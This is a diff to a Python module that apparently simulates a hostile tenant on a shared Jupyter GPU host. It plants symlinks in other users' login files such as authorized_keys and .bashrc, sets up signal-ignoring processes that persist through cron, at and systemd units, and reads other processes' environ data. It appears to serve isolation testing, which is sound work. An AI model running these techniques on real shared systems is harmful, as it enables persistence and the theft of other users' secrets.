@@ -28,21 +28,19 @@ BYTES, FILES, CONNECTIONS, CHILDREN, OBJECTS, SHOWN = 200 * 2**20, 20_000, 400, 
 STUBBORN = (signal.SIGTERM, signal.SIGHUP, signal.SIGINT)
 SHARED = "/srv/shared/hostile"
 DIRECTORIES = ["~", "/tmp", "/var/tmp", "/dev/shm", "/run/user/{uid}", "/run/gpulab/jupyter/{uid}", "/run/lock", SHARED]
-PLACES = [
-    *("~/.ssh", "~/.ssh/authorized_keys", "~/.jupyter", "~/.local", "~/.local/share/jupyter", "~/.ipython", "~/.cache"),
-    *(
-        "~/.config",
-        "~/.config/systemd/user",
-        "~/.bashrc",
-        "~/.profile",
-        "~/.hushlogin",
-        "~/.pam_environment",
-        "~/tensorboard",
-    ),
-    *("/run/user/{uid}/systemd", "/run/gpulab/jupyter/{uid}/tls", "/tmp/node-compile-cache", "/tmp/.X11-unix"),
-    *("/var/tmp/plain", "/dev/shm/plain", "/run/lock/plain", "/run/screen/S-{name}", f"{SHARED}/.ipynb_checkpoints"),
-]
-"""Where root, the hub or another user may come by."""
+PLACES = {
+    "login": ["~/.ssh/authorized_keys", "~/.bashrc", "~/.profile", "~/.hushlogin", "~/.pam_environment"],
+    "directories": ["~/.ssh", "~/.jupyter", "~/.local", "~/.ipython", "~/.cache", "~/.config", "~/tensorboard"],
+    "services": ["~/.config/systemd/user", "~/.local/share/jupyter", "/run/user/{uid}/systemd", "/run/screen/S-{name}"],
+    "memory": [
+        "/run/gpulab/jupyter/{uid}/tls",
+        "/run/gpulab/jupyter/{uid}/runtime",
+        "/dev/shm/plain",
+        "/run/lock/plain",
+    ],
+    "shared": ["/tmp/node-compile-cache", "/tmp/.X11-unix", "/var/tmp/plain", f"{SHARED}/.ipynb_checkpoints"],
+}
+"""Where root, the hub or another user may come by, in groups that are taken at once."""
 TARGETS = [
     *(
         "/root/hostile",
@@ -108,15 +106,18 @@ def background(work: Callable[[], Any], seconds: int = LIFE) -> str:
     os._exit(0)
 
 
-def link(place: str, to: str, kind: str, **names: str) -> str:
-    """Put a link to something foreign in the way of others; what was there is moved aside."""
-    path = expanded(place, names)
-    path.parent.mkdir(parents=True, exist_ok=True)
-    if os.path.lexists(path):
-        path.rename(f"{path}.{uuid.uuid4().hex}")
-    make = os.symlink if kind == "symbolic" else os.link
-    make(to.format(**names), path)
-    return f"{path} made"
+def link(places: str, to: str, kind: str, **names: str) -> str:
+    """Put links to something foreign in the way of others; what was there is moved aside."""
+    make, made = os.symlink if kind == "symbolic" else os.link, []
+    for place in PLACES[places]:
+        path = expanded(place, names)
+        with contextlib.suppress(OSError):
+            path.parent.mkdir(parents=True, exist_ok=True)
+            if os.path.lexists(path):
+                path.rename(f"{path}.{uuid.uuid4().hex}")
+            make(to.format(**names), path)
+            made.append(str(path))
+    return f"linked {made}"
 
 
 def address(where: str, names: dict[str, str]) -> tuple[int, Any]:
@@ -226,20 +227,19 @@ def fill(place: str, what: str, **names: str) -> str:
 
 def spawn(how: str, **names: str) -> str:
     """Start something that outlives its parent."""
-    wait = "/usr/bin/setsid /bin/sh -c \"trap '' TERM HUP INT; /bin/sleep 300; /bin/sleep 300\""
-    unit = f"[Service]\nExecStart={wait}\nKillMode=none\n[Install]\nWantedBy=default.target\n"
     if how == "stubborn":
         return " ".join(background(lambda: time.sleep(LIFE)) for _ in range(CHILDREN))
-    if how == "unit":
-        directory = Path("~/.config/systemd/user").expanduser()
-        directory.mkdir(parents=True, exist_ok=True)
-        (directory / "hostile.service").write_text(unit)
+    program, units = Path("~/stubborn").expanduser(), Path("~/.config/systemd/user").expanduser()
+    program.write_text("#!/bin/sh\ntrap '' TERM HUP INT\nsleep 150\nsleep 150\n")
+    program.chmod(0o755)
+    units.mkdir(parents=True, exist_ok=True)
+    (units / "hostile.service").write_text(f"[Service]\nExecStart={program}\n[Install]\nWantedBy=default.target\n")
     command = {
-        "cron": f"echo '* * * * * {wait}' | crontab -",
-        "at": f'echo "{wait}" | at now',
+        "cron": f"echo '* * * * * {program}' | crontab -; crontab -l",
+        "at": f"echo {program} | at now",
         "unit": "systemctl --user daemon-reload; systemctl --user enable --now --no-block hostile.service",
-        "scope": f"systemd-run --user --no-block {wait}",
-        "session": f"{wait} >/dev/null 2>&1 &",
+        "scope": f"systemd-run --user --no-block {program}",
+        "session": f"setsid {program} >/dev/null 2>&1 &",
     }
     return shell(command[how], **names)
 
@@ -282,7 +282,7 @@ def read(**names: str) -> str:
     """Read whatever can be read of others: their processes and all targets, with the files in them."""
     paths = [path for pid in Path("/proc").glob("[0-9]*") for path in (pid / "cmdline", pid / "environ")]
     paths = [path for path in paths if os.path.lexists(path) and path.stat().st_uid != os.getuid()]
-    for place in (*TARGETS, *DIRECTORIES[1:], *PLACES, "/run/gpulab/servers/{victim_uid}", "/home/{victim}/.bashrc"):
+    for place in (*TARGETS, *DIRECTORIES[1:], "/run/gpulab/servers/{victim_uid}", "/home/{victim}/.bashrc"):
         path = expanded(place, names)
         with contextlib.suppress(OSError):
             paths += list(path.iterdir())[:50] if path.is_dir() else [path]
